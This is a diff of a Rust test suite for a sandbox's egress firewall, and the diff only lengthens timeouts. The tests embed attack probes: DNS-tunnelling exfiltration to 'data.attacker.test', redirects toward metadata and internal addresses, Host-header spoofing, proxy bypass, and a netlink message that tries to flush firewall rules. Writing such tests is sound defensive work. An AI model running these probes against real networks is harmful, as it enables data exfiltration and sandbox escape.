@@ -105,7 +105,7 @@ fn attack_69_70_89_what_is_not_listed_is_refused_over_every_protocol() {
     let datagrams = "import socket\n\
         for family, host in ((socket.AF_INET, '192.0.2.10'), (socket.AF_INET6, '2001:db8::10')):\n\
         \x20 for port in (443, 9, 123):\n\
-        \x20   s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(10)\n\
+        \x20   s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(60)\n\
         \x20   try: s.sendto(b'x', (host, port)); s.recv(1); print('got')\n\
         \x20   except TimeoutError: print('timeout')\n\
         \x20   except OSError as e: print(e.strerror)\n\
@@ -122,7 +122,7 @@ fn attack_69_70_89_what_is_not_listed_is_refused_over_every_protocol() {
     });
     // Proxy variables mean nothing: there is no proxy to go around.
     let with =
-        "env http_proxy= no_proxy='*' curl -sS --noproxy '*' --max-time 20 http://198.51.100.10/";
+        "env http_proxy= no_proxy='*' curl -sS --noproxy '*' --max-time 60 http://198.51.100.10/";
     world.island().sh("x", with).exits(7);
 }
 
@@ -252,7 +252,7 @@ fn attack_74_75_76_names_match_exactly_and_wrong_lists_allow_nothing() {
     assert_eq!(attempts(&world, "x", &["WEB.TEST.@80"]), ["connected"]);
     // What no name has is not looked up, however the question is written.
     let labels = "import socket\n\
-        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(15)\n\
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(60)\n\
         head = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0'\n\
         for label in (b'a\\0.web', b'a\\r\\nb', b'a b', b'a\\\\b', b'web.test', b'\\xff', b'a' * 63):\n\
         \x20 name = bytes([len(label)]) + label + b'\\x04wild\\x04test\\0'\n\
@@ -325,7 +325,7 @@ fn attack_79_questions_for_what_is_not_allowed_do_not_leave() {
         \x20 try: socket.getaddrinfo(f'data{n:04x}.attacker.test', 80)\n\
         \x20 except socket.gaierror: pass\n\
         head = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0'\n\
-        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(15)\n\
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(60)\n\
         for kind in (1, 2, 5, 12, 15, 16, 28, 33, 65, 252, 255):\n\
         \x20 for name in (b'\\x04data\\x08attacker\\x04test\\0', b'\\x03web\\x04test\\0'):\n\
         \x20   s.sendto(head + name + kind.to_bytes(2) + b'\\0\\x01', ('192.0.2.10', 53)); r = s.recv(600)\n\
@@ -354,7 +354,7 @@ fn attack_79_questions_for_what_is_not_allowed_do_not_leave() {
         );
     }
     island
-        .sh("x", "curl -sS --max-time 20 http://data.attacker.test/")
+        .sh("x", "curl -sS --max-time 60 http://data.attacker.test/")
         .exits(6);
     assert_eq!(world.count("attacker"), 0);
     // With a wildcard, or when everything is open, a name carries what its owner reads: see docs/egress.md.
@@ -379,10 +379,10 @@ fn attack_82_a_redirect_is_a_new_connection_and_judged_anew() {
         ("open", "http://metadata.test/latest", 6),
         ("open", "http://10.9.9.9/", 7),
     ] {
-        let line = format!("curl -sSL --max-time 20 'http://web.test/to/{to}'");
+        let line = format!("curl -sSL --max-time 60 'http://web.test/to/{to}'");
         island.sh(workspace, &line).exits(code);
     }
-    let line = "curl -sSL --max-time 20 http://web.test/to/http://web.test/there";
+    let line = "curl -sSL --max-time 60 http://web.test/to/http://web.test/there";
     assert!(island.sh("x", line).ok().out().ends_with("says /there"));
     for arrived in ["http 169.254", "http 10.9", "http 198.51", "evil.test /"] {
         assert_eq!(world.count(arrived), 0, "{:?}", world.seen());
@@ -396,7 +396,7 @@ fn attack_81_83_what_is_said_inside_a_connection_is_no_promise() {
     world.up("x", "[egress]\nmode = \"allow\"\nallow = [\"web.test\"]\n");
     // The name that was resolved and its address are judged. What a program then says (`Host`, SNI,
     // no TLS at all on 443) is between it and that host: documented, not promised.
-    let line = "curl -sS --max-time 20 -H 'Host: evil.test' http://web.test/host";
+    let line = "curl -sS --max-time 60 -H 'Host: evil.test' http://web.test/host";
     island.sh("x", line).ok();
     assert_eq!(world.count("evil.test /host"), 1);
     assert_eq!(attempts(&world, "x", &["web.test@443"]), ["connected"]);
@@ -444,7 +444,7 @@ fn attack_85_a_policy_that_narrows_cuts_what_is_open_and_never_opens() {
     let knock = "import socket, os\n\
         print('knocking', flush=True); count = 0\n\
         while not os.path.exists('/tmp/enough'):\n\
-        \x20 s = socket.socket(); s.settimeout(10)\n\
+        \x20 s = socket.socket(); s.settimeout(60)\n\
         \x20 if s.connect_ex(('198.51.100.10', 80)) == 0: print('through', flush=True); break\n\
         \x20 s.close(); count += 1\n\
         print('tried', count > 0, flush=True)";
@@ -533,7 +533,7 @@ fn attack_88_90_the_walls_cannot_be_changed_or_dialled_from_inside() {
     assert!(said.out().contains("not permitted"), "{}", said.out());
     // The kernel is asked to drop the table, by a socket of the workspace's own.
     let flush = "import socket, struct\n\
-        s = socket.socket(16, 3, 12); s.bind((0, 0)); s.settimeout(5)\n\
+        s = socket.socket(16, 3, 12); s.bind((0, 0)); s.settimeout(60)\n\
         def message(kind, body, flags): return struct.pack('=IHHII', 16 + len(body), kind, flags, 1, 0) + body\n\
         batch = message(16, b'\\0\\0\\0\\x0a', 1) + message(10 << 8 | 2, b'\\x01\\0\\0\\0', 5) + message(17, b'\\0\\0\\0\\x0a', 1)\n\
         s.send(batch); print(struct.unpack('=i', s.recv(4096)[16:20])[0])";
